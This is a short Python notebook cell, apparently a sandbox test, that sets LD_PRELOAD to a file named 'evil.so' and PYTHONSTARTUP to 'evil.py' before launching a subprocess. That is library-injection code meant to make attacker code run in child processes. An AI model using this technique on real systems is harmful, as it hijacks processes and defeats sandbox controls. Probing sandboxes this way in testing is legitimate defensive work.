# %% last
import os, subprocess
os.environ['LD_PRELOAD'] = '/box/work/evil.so'
os.environ['PYTHONSTARTUP'] = '/box/work/evil.py'
subprocess.run(['true'])
